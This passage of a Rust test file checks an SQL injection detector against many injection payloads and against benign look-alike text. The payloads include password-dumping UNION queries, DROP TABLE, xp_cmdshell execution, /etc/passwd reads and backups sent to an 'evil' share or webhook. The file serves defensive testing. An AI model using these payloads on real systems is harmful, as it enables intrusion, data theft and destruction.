//! Cases written from SQL grammar, one technique or benign shape per line.

use super::lexer::{self, Start};
use super::{
    backslash_in_strings, detect, ignored_by_sql, quote_context_inert, quoted_words_in_prose,
};
use crate::Context;

fn hit(v: &str) -> bool {
    detect(v, Context::Param).is_some()
}

#[test]
fn string_context_breakouts() {
    for v in [
        "' OR 'a'='a",
        "x' or '1'='1",
        "1' AND '1'='1",
        "admin'--",
        "admin' #",
        "admin')--",
        "' or 1=1--",
        "' OR 1 -- -",
        "\" or \"\"=\"",
        "') or ('x'='x",
        "' AND SLEEP(5)--",
        "'||(SELECT password FROM users LIMIT 1)||'",
        "'+(select top 1 name from sysobjects)+'",
        "' UNION SELECT username, password FROM users--",
        "'; DROP TABLE users--",
        "'; exec master..xp_cmdshell 'dir'--",
        "' group by password having 1=1--",
        "' order by 3--",
        "'='",
        "'-sleep(5)-'",
        "1' and extractvalue(1,concat(0x7e,version()))--",
        "' or username like '%",
        "x' AND 1=(SELECT COUNT(*) FROM tabname); --",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn numeric_context_breakouts() {
    for v in [
        "1 AND 1=1",
        "1 or 1=1",
        "-1 UNION SELECT 1,2,3",
        "1 UNION ALL SELECT NULL,NULL--",
        "1)) OR ((1",
        "1 AND SLEEP(5)",
        "1-sleep(5)",
        "1; DROP TABLE users",
        "1;WAITFOR DELAY '0:0:5'--",
        "1 order by 5",
        "(((1)))*HOPE AND 8=3",
        "1 and (select 1 from dual)=1",
        "1 rlike (select case when 1=1 then 1 else 0x28 end)",
        "1 AND 1=CAST(@@version AS int)",
        "0x31 or 1=1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn obfuscated_and_dialects() {
    for v in [
        "1 UN/**/ION SEL/**/ECT 1,2",
        "1/*!50000union*/ /*!50000select*/ 1,2",
        "1'/**/or/**/'1'='1",
        "1;SELECT pg_sleep(5)--",
        "1 AND 1=1::int",
        "' || (SELECT utl_inaddr.get_host_address('x') FROM dual) || '",
        "1 AND [id]=1 --",
        "select load_file('/etc/passwd')",
        "SELECT * FROM users WHERE id=1",
        "select @@version",
        "sleep(5)#",
        "benchmark(5000000,md5(1))",
        "'||pg_sleep(10)--",
        "1 AND $$a$$=$$a$$",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn structural_variants() {
    for v in [
        // comment used as whitespace, split keywords
        "14/**/or/**/1",
        "1/**/UNION/**/SELECT/**/password/**/FROM/**/users",
        // list / ORDER BY / IN contexts
        "1,(SELECT password FROM users LIMIT 1)",
        "id,IIF(1=1,id,1/0)",
        "17,23 order by 16",
        "1 group by id having 1=1--",
        // PostgreSQL JSON operators and casts
        "' OR '{\"a\":1}'::jsonb @> '{\"a\":1}'--",
        "1 OR '[1,2]'::json ->> 1 = '2'",
        // T-SQL without ';'
        "x' exec master..xp_cmdshell 'dir'--",
        "1; IF (1=1) WAITFOR DELAY '0:0:5'",
        "EXEC sp_configure 'show advanced options', 1",
        // comparisons with quantifiers, postfix null tests, backslash-escaped quote
        "a' and email = all (select email)--",
        "z' or email notnull--",
        "\\' or '1'='1",
        // typographic quotes and dashes from pasted payloads
        "' or '1\u{2032}='1",
        "' or 1=1 \u{2013}",
        // whole-value expressions built from SQL functions
        "MID(@@hostname, 1, 1)",
        "CASE WHEN (1=1) THEN SLEEP(5) ELSE 0 END",
        "(SELECT id, name FROM users)",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn encodings_an_application_undoes() {
    for v in [
        "%27%20OR%201%3D1--",
        "%2527%2520UNION%2520SELECT%25201,2--",
        "%u0027%20OR%201=1--",
        "1'+OR+'1'%3D'1",
        "&#39; OR 1=1--",
        "&apos; OR &apos;1&apos;=&apos;1",
        "\\u0027 OR 1=1--",
        "\\x27 UNION SELECT 1--",
        "pay=OR (7319=8742)",
        "a=1&id=1' OR '1'='1",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in ["O&#39;Reilly", "caf%C3%A9+au+lait", "a+b=c", "Tom\\'s bar"] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn benign_text_stays_quiet() {
    for v in [
        "O'Reilly",
        "l'été",
        "d'Artagnan",
        "Rock 'n' roll",
        "It's a 5' table",
        "select one of the options",
        "drop me a line",
        "union station",
        "order by phone",
        "WHERE IS GEORGE",
        "1 BY 1 INCH PILLOWS",
        "CASE FOR KINDLE WITH KEYBOARD",
        "a+b=c",
        "x<5 and y>3",
        "3 < 5 and 7 > 2",
        "2+2=4",
        "2024-05-01",
        "12:30:00",
        "{\"a\": 1, \"b\": \"x\"}",
        "https://example.com/search?q=a&b=c",
        "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/120.0 Safari/537.36",
        "eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.abc-def_ghi",
        "Students' and teachers' rooms",
        "James' or John's",
        "1 or 2 people",
        "2 or 3 days",
        "Hi; use the side door",
        "Note; update your profile",
        "\"CLIP ON\" -EARRING* -SWEATER",
        "we sell 1-2 items; select your favourite",
        "Tom & Jerry",
        "rock'-n-roll",
        "The \"best\" or worst?",
        "I'm here -- come in",
        "5' - 10'",
        "price: $5 -- cheap!",
        "-- no comment --",
        "2*(3+4)=14; 50% off -- today only",
        "l'été est là; if x > 0 then y = 1",
        "Paris \u{2013} London",
        "1990\u{2013}2000",
        "Case when it rains: then stay home, end of story",
        "union select committee",
        "Please select from the list below",
        "exec chef; declare your allergies",
        "DROP SHIPPING AVAILABLE",
        "(note) -- see below",
        "Item #2 -- blue",
        "Room 5 -- second floor",
        "x = 5 and y = 6",
        "a/**/b",
        "I'm \"select\"-ing the best one",
        "2'6\" x 8' runner rug",
        "She said: 'I'll be there at 5 or 6'",
        "The value of 'a' = 1 and 'b' = 2",
        "=IF(A1>0,\"yes\",\"no\")",
        "l'Hôpital's rule: lim f/g = lim f'/g'",
        "Let x' = x + 1 or x' = x - 1",
        "Guns N' Roses",
        "Order #12345 -- shipped",
        "Mozilla/5.0 (Linux; Android 14; Pixel 8) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/119.0 Mobile Safari/537.36",
        "PHPSESSID=abc123; wordpress_logged_in_x=admin%7C1700000000%7Chash",
        "text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8",
    ] {
        assert!(!hit(v), "false positive {v:?}: {:?}", detect(v, Context::Param));
    }
}

#[test]
fn huge_values_are_bounded() {
    let v = "'".repeat(1 << 20);
    let _ = detect(&v, Context::Param);
    let v = "(".repeat(1 << 20);
    let _ = detect(&v, Context::Param);
    let v = format!("{}' OR 'a'='a", "x".repeat(100));
    assert!(hit(&v));
}

#[test]
fn clause_keys_and_privilege_statements() {
    for v in [
        "ORDER BY BENCHMARK(5000000,MD5(1))",
        "1 GROUP BY pg_sleep(4)",
        "x' WHERE SLEEP(3)-- -",
        "2; EXEC AS USER 'dbo'; SELECT 1",
        "'; REVOKE select ON accounts FROM app; --",
        "1; GRANT dba TO scott",
        "';GRANT pg_read_server_files TO CURRENT_USER;--",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "order by price, then sleep on it",
        "grant access to the shared drive please",
        "execute as soon as possible",
        "We will grant you the wish; order by Friday.",
        "Thanks; grant it to public libraries too",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn cloud_databases_statements() {
    for v in [
        "'; GRANT ALL PRIVILEGES ON ALL TABLES IN SCHEMA public TO anon;--",
        "'; GRANT USAGE ON SCHEMA vault TO authenticated;--",
        "'; CREATE SERVER x FOREIGN DATA WRAPPER postgres_fdw OPTIONS (host '10.0.0.5');--",
        "'; CREATE PUBLICATION leak FOR ALL TABLES;--",
        "'; CREATE SUBSCRIPTION s CONNECTION 'host=198.51.100.2' PUBLICATION p;--",
        "'; CREATE CHANGEFEED FOR TABLE payments INTO 'webhook-https://x.test/f';--",
        "1; BACKUP DATABASE defaultdb INTO 's3://bkt/crdb?AWS_ACCESS_KEY_ID=A'--",
        "'; SHOW CLUSTER SETTING server.host_based_authentication.configuration;--",
        "acme\"; DROP SCHEMA \"globex\" CASCADE; --",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "Grant access on all tables in the room to the staff",
        "create a server; create publication plans for the fall",
        "We back up the database into the cloud; show cluster health",
        "Server: create server-side rendering; subscription renews monthly",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn sentences_quoting_a_symbol() {
    for v in [
        "x' = 'x",
        "abc' >= '0",
        "name' OR 'a'='a",
        "some long words' OR 'a'='a",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "Token value for \"<=\".",
        "the value of \"!=\" is documented",
        "search for the word \"LIKE\" please",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn json_key_named_execute() {
    for v in ["'; EXEC 'xp_cmdshell dir'--", "\"; execute \"sp_who\"; --"] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "{ \"execute\": \"query-status\" }",
        "{\"execute\": \"quit\", \"id\": 7}",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn json_keys_named_like_an_operator() {
    // a field named `like`, `in`, `is` is a key: its quote follows `{` or `,` and a colon
    // follows its closing quote
    for v in [
        "{\"like\":true}",
        "{\"like\": false}",
        "{\"id\": 7, \"like\": true}",
        "{'like': 1}",
        "{\"in\": [1, 2]}",
    ] {
        assert!(!hit(v), "{v:?}");
    }
    // the break-outs they resemble: no colon after the operand, or a wildcard pattern
    for v in ["x\" like \"%", "admin' LIKE '%", "{\"a\":\"' or 1=1-- \"}"] {
        assert!(hit(v), "{v:?}");
    }
}

#[test]
fn c_and_js_conditions_are_not_mysql_if() {
    for v in [
        "1; IF(1=1, SLEEP(5), 0)",
        "x'; IF(SUBSTRING(@@version,1,1)='5', BENCHMARK(1000000,MD5(1)), 0)-- -",
    ] {
        assert!(hit(v), "{v:?}");
    }
    for v in [
        "n = read(fd, buf, 10);\nif (n != 10 || errno) {\n  return -1;\n}",
        "x = f(a);\nwhile (x > 0) x--;",
        "status = init(&ctx);\nif (status != OK) { goto fail; }",
    ] {
        assert!(!hit(v), "{v:?}");
    }
}

#[test]
fn union_select_in_random_case_or_left_open() {
    for v in [
        "UnIoN SeLeCt",
        "uNioN  sElecT 1",
        "x union select",
        "1) UNION ALL SELECT",
    ] {
        assert!(hit(v), "{v}");
    }
    for v in [
        "union select committee",
        "Union Select Committee meets today",
        "the credit union selected a new board",
        "McDonald union select committee",
    ] {
        assert!(!hit(v), "{v}");
    }
}

#[test]
fn postgres_casts_and_server_file_functions() {
    for v in [
        "password::int",
        "1+current_user::int",
        "function(foo)::double precision",
        "function(foo)::BIGINT",
        "x'||(select password from users)::int||'",
        "lo_get(16400)",
        "1 and pg_read_binary_file('/etc/passwd') is not null",
        "1;select lo_export(16400, '/tmp/x')",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "std::string",
        "Foo::Text",
        "System::Int32",
        "i32::MAX and u8::from(x)",
        "App::name",
        "use serde::json;",
        "use iced::widget::text;",
        "std::primitive::bool",
        "a::b::c",
        "Use the lo_get function to read a large object",
        "chrono::Date",
        "the ratio was 3::1",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn oracle_float_suffix_runs_into_union() {
    for v in [
        "1FUNION SELECT 2",
        "-1fUNION SELECT column_name FROM table_name",
        "1DUNION SELECT 2",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "3dfx voodoo",
        "1day union of states",
        "2D union select committee",
    ] {
        assert!(!hit(v), "false positive {v:?}");
    }
}

#[test]
fn argument_less_method_calls_are_program_text() {
    for v in [
        "Using asyncio.sleep()",
        "os.version()",
        "ssl.SSLSocket.version()",
    ] {
        assert!(!hit(v), "{v}");
    }
    for v in [
        "1 and sleep(5)",
        "pg_catalog.pg_sleep(5)",
        "1 and version()",
        "1' and a.version()--",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn catalog_names_qualified_or_in_evasive_case() {
    for v in [
        "FROM INFORMATION_SCHEMA.\n",
        "1 and (select count(*) from information_schema.tables)>0",
        "information_schema.columns",
        "InFoRmaTioN_ScHemA",
        "pg_catalog.pg_tables",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "from the information desk",
        "information schema",
        "Information_schema",
        "INFORMATION_SCHEMA",
        "query the sqlite_master table",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn sql_only_clauses_at_the_start() {
    for v in [
        "CREATE FUNCTION hi (s CHAR(20)) RETURNS CHAR(50) RETURN CONCAT('a',s);",
        "create table t (id int, name varchar(20))",
        "CREATE OR REPLACE FUNCTION x.f(a text) RETURNS int",
        "FROM `orders` WHERE CONVERT(`orders`.`id` USING utf8) = 'a1' LIMIT",
        "from users where id=1 and 1=1",
        "FROM t WHERE name = char(65)",
        ") AS 'average_time' FROM",
        "12 AS \"total\" FROM accounts",
        "CASE WHEN TRUE THEN 1 END IS NULL UNION SELECT pass",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Create table (optional)",
        "create a function that returns a list",
        "create table for two (by the window)",
        "from home where we met",
        "from x where y = 2",
        "from 5 to 10 where possible",
        "known as 'Bob' from Texas",
        "10 as good from reviewers",
        "in case when it rains then stay in",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn comments_as_spaces_and_radix_literals() {
    for v in [
        "DROP/*x*/users",
        "select/**/password/**/from/**/users",
        "select 0x616263",
        "SELECT 0b0110",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "select one",
        "select 2",
        "int/*count*/n = 0",
        "drop me a line",
        "see 0x616263 in the dump",
        "/* select */ value",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn c_if_with_one_condition_is_not_mysql_if() {
    assert!(hit("IF(1=1,SLEEP(5),0)"));
    assert!(hit("if(ascii(substr(user(),1,1))>64,sleep(3),1)"));
    for v in [
        "if (instr(buf,sys_errlist[errno]))  /* you don't see this */",
        "if (strlen(name) > max(a, b)) return",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn use_statement_and_function_arity() {
    for v in [
        "'; USE master; EXEC xp_cmdshell 'dir'--",
        "1; use mysql;",
        "1 AND SLEEP(5)",
        "' OR version() LIKE '8%",
        "1 and database()='x'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "Deprecated; use add_option() after creating the parser instead.",
        "that is an empty dictionary; use set() for an empty set.",
        "option; use one or the other.",
        "sleep()",
        "x = sleep()",
        ">>> version('wheel')\n'0.32.3'",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn calls_left_open_for_the_application() {
    for v in ["database(", "DaTaBasE(", "version("] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn literal_compared_with_an_open_literal() {
    for v in ["'x'!='y", "'a'<>'b", "\"1\"=\"2"] {
        assert!(hit(v), "missed {v:?}");
    }
    for v in [
        "'x' != 'y'",
        "\"a\" = \"b\"",
        "'hello' world 'x",
        "'Quote' is open 'here",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn quoted_symbols_inside_sentences() {
    assert!(!hit(
        "Escape '&', '<', and '>' in a string of data.\nThe characters '&', '<' and\n'>' are always escaped."
    ));
    for v in ["' OR 'a'='a", "'='", "' or 'x'='x' and 'y'='y"] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn markup_concatenated_in_program_text() {
    assert!(!hit(
        "<p class=\"topic-title\">' + ' <a class=\"glossary-title\" href=\"#\"></a>' + ' </p>"
    ));
    assert!(hit("'+(select top 1 name from sysobjects)+'"));
}

#[test]
fn a_call_as_element_text_is_markup() {
    assert!(!hit(
        "<p>The <code class=\"x\"><span class=\"pre\">version()</span></code> function</p>"
    ));
    for v in [
        "1>sleep(5)",
        "1 and 2<sleep(5)",
        "x' AND 0<benchmark(1000000,md5(1))-- -",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// The byte searches that replaced `str` searches agree with them (speed only, same answers).
#[test]
fn byte_searches_agree_with_their_definitions() {
    const QUOTES: [char; 5] = ['\u{2032}', '\u{2019}', '\u{2018}', '\u{ff07}', '\u{2bc}'];
    const DASHES: [char; 2] = ['\u{2013}', '\u{2014}'];
    let old_punct = |v: &str| {
        v.bytes()
            .any(|c| matches!(c, b'\'' | b'"' | b'`' | b';' | b'#' | b'@'))
            || ["--", "/*", "||", "&&", ")(", "(|", "(&"]
                .iter()
                .any(|p| v.contains(p))
    };
    let pieces = [
        "a", " ", "-", "/", "*", "|", "&", "(", ")", "'", "\u{2019}", "\u{2018}", "\u{2032}",
        "\u{ff07}", "\u{2013}", "\u{2014}", "\u{2015}", "\u{201c}", "\u{ff08}", "é", "#", "@",
        "\u{2bc}", "\u{2bb}", "\u{2bd}", "\u{27c}",
    ];
    for a in pieces {
        for b in pieces {
            for c in pieces {
                let v = format!("{a}{b}{c}");
                assert_eq!(
                    super::has_typographic(&v),
                    v.contains(QUOTES) || v.contains(DASHES),
                    "{v:?}"
                );
                assert_eq!(super::sql_punctuation(v.as_bytes()), old_punct(&v), "{v:?}");
            }
        }
    }
}

#[test]
fn arithmetic_on_a_name_is_no_tautology() {
    // Math: arithmetic binds tighter than the comparison, so `x` next to `*` or `+` is not
    // the whole operand and `2*x < x + 3` compares different expressions.
    for v in [
        "2*x < x + 3",
        "6*y < y - 24",
        "-8*y >= y + 66",
        "8*n + 9*z <= z - 81",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // The same operand on both sides still is one, and so are literals and open quotes.
    for v in [
        "1 or x=x",
        "1 and 2*1=1",
        "1*1=1",
        "' or x=x--",
        "1) or (a=a",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
}

/// The context without backslash escapes is skipped when no string of its escaped twin held a
/// backslash: the two token streams must then be the same.
#[test]
fn unescaped_context_is_skipped_only_when_its_tokens_are_the_same() {
    for v in [
        "it's a \\path\\ and 'x' or 'y'",
        "a\\' or 1=1 -- ",
        "C:\\dir\\file 'quoted'",
        "@'a\\b' 'c'",
        "x\\ 'y' \"z\\\" w\"",
        "N'a\\' or ''='",
        "no backslash 'here'",
    ] {
        for q in [b'\'', b'"'] {
            let mut with = Vec::new();
            let mut without = Vec::new();
            let _ = lexer::tokenize(v, Start::InQuote(q), true, &mut with, &mut Vec::new());
            let _ = lexer::tokenize(v, Start::InQuote(q), false, &mut without, &mut Vec::new());
            if !backslash_in_strings(v, &with) {
                assert_eq!(with, without, "{v:?}");
            }
        }
    }
    // a backslash-escaped quote still breaks out in the context without escapes
    assert!(detect("x\\' or 1=1 -- ", Context::Param).is_some());
    assert!(detect("C:\\Users\\O'Brien", Context::Param).is_none());
}

/// The byte-level replacement of typographic quotes and dashes gives what replacing the
/// characters gives.
#[test]
fn typographic_replacement_matches_the_character_replacement() {
    const QUOTES: [char; 5] = ['\u{2032}', '\u{2019}', '\u{2018}', '\u{ff07}', '\u{2bc}'];
    const DASHES: [char; 2] = ['\u{2013}', '\u{2014}'];
    for v in [
        "it\u{2019}s \u{2018}quoted\u{2019} \u{2014} dash \u{2013} en",
        "1\u{2032} OR \u{ff07}1\u{ff07}=\u{ff07}1 \u{2014}",
        "\u{2026} ellipsis \u{201c}double\u{201d} \u{20ac} euro \u{ff08}x\u{ff09}",
        "\u{2019}",
        "plain",
        "",
        "\u{e2}\u{ef} latin bytes, \u{2192} arrow, \u{2122}",
        "1\u{2bc} OR 1=1--, \u{2bb}okina \u{27c} \u{2bc}",
    ] {
        assert_eq!(
            super::plain_quotes_and_dashes(v),
            v.replace(QUOTES, "'").replace(DASHES, "--"),
            "{v:?}"
        );
    }
}

/// The table-driven punctuation scan agrees with testing every byte.
#[test]
fn punctuation_scan_agrees_with_the_bytewise_test() {
    let every_byte: Vec<u8> = (0..=255).collect();
    for v in [
        &b"plain words only"[..],
        b"a -- b",
        b"a - b / c | d & e ) f ( g",
        b"x)(y (|z (&w",
        b"a/*b",
        b"it's",
        b"-",
        b"(",
        b"",
        &every_byte,
    ] {
        for from in 0..v.len() {
            let b = &v[from..];
            let bytewise = (0..b.len()).any(|i| super::punctuation_at(b, i));
            assert_eq!(super::sql_punctuation(b), bytewise, "{b:?}");
        }
    }
}

/// The full analysis of one value, without [`super::plain_prose`]'s shortcut.
fn full_analysis(v: &str) -> Option<&'static str> {
    let classes = super::byte_classes(v);
    super::analyze_with(v, classes, &mut super::Scratch::default())
}

#[test]
fn plain_prose_leaves_only_values_the_grammar_passes() {
    // Values built from what the shortcut lets through: non-keyword words, numbers,
    // arithmetic, commas, dots, NBSP, non-ASCII. The full grammar must pass every one.
    let parts = [
        "hello",
        "world",
        "Taugenichts",
        "1",
        "42",
        "3.5",
        ".5",
        "+",
        "-",
        "*",
        "/",
        "%",
        "^",
        ",",
        ".",
        " ",
        "\u{a0}",
        "é",
        "über",
        "[x]",
        "{",
        "}",
        "1.",
        "5e3",
        "x1",
        "v2",
        "!",
        "?",
        ":",
        "::",
        ":x",
        "10:30",
        "!x",
        "?1",
        "0x",
        "1f",
        "1D",
        "12ab",
        "3rd",
        "0x1a",
        "9e",
        "union",
        "Select",
        "OR",
        "rom",
        "\\",
        "\\\\",
        "..\\",
        "\\N",
        "\\n",
    ];
    let plain_parts = [
        "hello",
        "world",
        "Taugenichts",
        "1",
        "42",
        "3.5",
        ",",
        ".",
        " ",
        "é",
        "über",
        "+",
        "!",
        "?",
        "%",
        "\\",
    ];
    let mut seed = 0x2545_f491_4f6c_dd1du64;
    let mut long_plain = 0;
    for round in 0..4000 {
        let mut v = String::new();
        // every 64th value long, past the lexer's token cap, from parts that keep it plain
        let long = round % 64 == 0;
        let (count, choices) = if long {
            (300 + seed % 400, &plain_parts[..])
        } else {
            (seed % 9 + 1, &parts[..])
        };
        for _ in 0..count {
            seed ^= seed << 13;
            seed ^= seed >> 7;
            seed ^= seed << 17;
            v.push_str(choices[(seed % choices.len() as u64) as usize]);
        }
        let classes = super::byte_classes(&v);
        if classes & super::NOT_PLAIN == 0 && super::plain_prose(&v, classes) {
            assert_eq!(full_analysis(&v), None, "{v:?}");
            long_plain += usize::from(long);
        }
    }
    assert!(long_plain > 0, "no long value was plain");
}

#[test]
fn plain_prose_keeps_sql_for_the_grammar() {
    // keywords (in any case, also after a number that eats letters), comments, and the
    // comparisons, calls and quotes the shortcut's byte class excludes
    for v in [
        "1 or 2",
        "1 UNION",
        "1fUNION",
        "0xdunion",
        "0x1aUnion",
        "1Dunion",
        "0xunion",
        "7or 1",
        "1 -- x",
        "1 /* x",
        "x 1=1",
        "sleep(5)",
        "a'b",
        "@@version",
        "information_schema.tables",
        "1) goto x",
        "x::int",
        "1 :x",
        "1 != 2",
        "? || 1",
        "\\N",
        "1 \\N",
        "x\\\\Nope",
    ] {
        let classes = super::byte_classes(v);
        assert!(
            classes & super::NOT_PLAIN != 0 || !super::plain_prose(v, classes),
            "{v:?}"
        );
    }
    // ordinary words and numbers leave before the lexer, and stay undetected
    for v in [
        "huddle Taugenichts",
        "12 + 7, 3.5 * 2",
        "Zürich 8004",
        "a - b / c",
        "Hey! Why? Note: 10:30",
        "3rd street, 10am",
        "dfc987c2-72e2-4a8e-ad98-e0bf1bc3a01c",
        "C:\\Temp\\report 2.txt",
        "..\\..\\..\\windows\\win.ini",
        "a\\nb\\tc",
    ] {
        assert_eq!(super::byte_classes(v) & super::NOT_PLAIN, 0, "{v:?}");
        assert!(super::plain_prose(v, super::byte_classes(v)), "{v:?}");
        assert!(!hit(v), "{v:?}");
    }
    // the grammar still decides what the shortcut declines
    assert!(hit("1 UNION SELECT password FROM users"));
    assert!(hit("1fUNION SELECT 1"));
}

/// The byte-by-byte walk [`super::plain_prose`] must agree with: every byte outside a run of
/// ASCII letters visited once (the neighbour of a `-`, `/`, `:` checked), every run once.
fn plain_prose_bytewise(value: &str) -> bool {
    let b = value.as_bytes();
    let mut i = 0;
    while let Some(&c) = b.get(i) {
        if c.is_ascii_alphabetic() {
            let start = i;
            while b.get(i).is_some_and(u8::is_ascii_alphabetic) {
                i += 1;
            }
            let after_digit = start > 0 && b[start - 1].is_ascii_digit();
            if super::keyword_in_run(&b[start..i], || after_digit) {
                return false;
            }
            continue;
        }
        i += 1;
        let next = b.get(i).copied().unwrap_or(0);
        let blocked = match c {
            b'-' => next == b'-',
            b'/' => next == b'*',
            b':' => next == b':' || next.is_ascii_alphabetic(),
            b'\\' => next == b'N',
            _ => false,
        };
        if blocked {
            return false;
        }
    }
    true
}

proptest::proptest! {
    #[test]
    fn plain_prose_agrees_with_the_bytewise_walk(
        parts in proptest::collection::vec(
            proptest::sample::select(vec![
                "a", "Or", "union", "in", "x", "Taugenichts", "1", "0x", "1f", "9", " ", "-",
                "--", "/", "*", "/*", ":", "::", ":x", ".", ",", "+", "?", "!", "é", "\u{a0}",
                "..", "etc", "passwd", "%", "rom", "ab", "selec", "t", "\\", "\\N", "N",
            ]),
            0..40,
        ),
        tail in "[ -~]{0,24}",
    ) {
        let v = parts.concat() + &tail;
        proptest::prop_assert_eq!(
            super::plain_prose(&v, super::byte_classes(&v)),
            plain_prose_bytewise(&v),
            "{:?}", v
        );
    }
}

proptest::proptest! {
    #[test]
    fn plain_prose_passes_only_what_the_grammar_passes(
        parts in proptest::collection::vec(
            proptest::sample::select(vec![
                "a", "Or", "union", "x", "1", "0x", "1f", " ", "-", "/", "*", ":", ".", ",",
                "+", "?", "!", "%", "^", "{", "[x]", "\\", "\\N", "N", "\\\\", "é", "etc",
            ]),
            0..40,
        ),
        tail in "[ -~]{0,16}",
    ) {
        // the shortcut's answer (no detection) must be the full grammar's, backslashes included
        let v = parts.concat() + &tail;
        let classes = super::byte_classes(&v);
        if classes & super::NOT_PLAIN == 0 && super::plain_prose(&v, classes) {
            proptest::prop_assert_eq!(full_analysis(&v), None, "{:?}", v);
        }
    }
}

#[test]
fn a_comment_that_ends_the_value_drops_no_token_before_it() {
    // `analyze_with` takes the tokens before such a comment as the significant ones, without
    // the copy `significant` makes; both must agree, in every context
    for v in [
        "1' or 1=1 --",
        "admin'#",
        "admin'-- -",
        "<li><a class=\"reference internal\" href=\"#tkinter\">x</a></li>",
        "1 /* x",
        "1 /* x */",
        "x -- y\n z",
        "a/**/b #c",
        "1 UN/**/ION SELECT 1 -- -",
        "# only a comment",
        "it's \"quoted\" -- and more",
    ] {
        for st in [Start::Bare, Start::InQuote(b'\''), Start::InQuote(b'"')] {
            let (mut raw, mut starts, mut sig) = (Vec::new(), Vec::new(), Vec::new());
            lexer::tokenize(v, st, true, &mut raw, &mut starts);
            let truncated = super::significant(v, &raw, &mut sig);
            let first = raw.iter().position(|t| t.kind == lexer::Kind::Comment);
            if let Some(c) = first.filter(|&c| c + 1 == raw.len()) {
                assert_eq!(&raw[..c], &sig[..], "{v:?} {st:?}");
                assert_eq!(super::trailing_truncation(v, &raw), truncated, "{v:?}");
            }
        }
    }
}

#[test]
fn truncating_comments_by_each_of_their_three_signs() {
    // a separator after `--`, no alphanumeric text, or MSSQL's `sp_password` log hiding
    for c in [
        "--",
        "-- -",
        "-- x",
        "--+x",
        "--\tx",
        "#",
        "# --",
        "/*",
        "-- sp_password",
        "#sp_password",
        "#x sp_password",
    ] {
        assert!(super::truncating_comment(c), "{c:?}");
    }
    // prose that uses the characters
    for c in [
        "--INFANT",
        "#2 MOM",
        "# BLAH",
        "#x",
        "#sp_pass_word",
        "--x_y",
        "/* note */",
    ] {
        assert!(!super::truncating_comment(c), "{c:?}");
    }
}

#[test]
fn postgres_regex_json_and_subscript_operators_continue_the_expression() {
    for v in [
        "1 or name ~ '^adm'",
        "x' or name ~ '^a'--",
        "x' and name !~ 'z'--",
        "x' or email~all(array[email]);analyze--",
        "1 or data ? 'admin'",
        "x' or data::jsonb ? 'role'--",
        "x' or roles[1] is not null--",
        "1 or doc->>'role' ~ 'adm'",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // `~` as a prose "about", `?` ending a question or starting a URL's query, brackets
    // indexing program arrays: no break-out, or none with new structure.
    for v in [
        "approx ~ 3 km",
        "x' ~ 'y",
        "Is it 'yes' ? 'no'",
        "<a href=\"/page?x=1&amp;y=2\">link</a>",
        "let a = b[0] + c[1];",
        "matrix[0][1] == 3",
        "~/projects/app",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
}

#[test]
fn sqlite_terminator_ending_the_value_cuts_the_query_off() {
    // SQLite compiles the first statement of a query string and ignores the rest.
    for v in [
        "admin@example.com' and password glob password;",
        "bob' or pass like '%';",
        "x' or 1=1;",
    ] {
        assert!(hit(v), "missed {v:?}");
    }
    // a test must come before the terminator: a lone word or phrase is prose
    for v in [
        "it's 5' or so;",
        "He said 'hi' and left;",
        "O'Neil and Smith like pizza;",
        // a password's random punctuation before the quote names nothing
        "7PttINXP_$;s3n\";",
        "`E?-Wc)iri\";",
    ] {
        assert!(!hit(v), "flagged {v:?}");
    }
    // a name closed and the statement ended: the rest of the WHERE clause is gone
    for v in ["admin';", "admin\";", "Robert'); "] {
        assert!(hit(v), "missed {v:?}");
    }
}

#[test]
fn statements_of_each_dialect_after_a_terminator() {
    for v in [
        "1; DO $$ BEGIN PERFORM pg_sleep(5); END $$",
        "1'; DO SLEEP(5)-- -",
        "1; MERGE INTO users USING dual ON (1=1) WHEN MATCHED THEN DELETE;--",
        "1; BACKUP DATABASE app TO DISK='\\\\evil\\s\\a.bak'--",
        "1; SET ROLE postgres;--",
        "1; SET search_path TO evil;--",
        "1; ALTER SYSTEM SET log_statement='none';--",
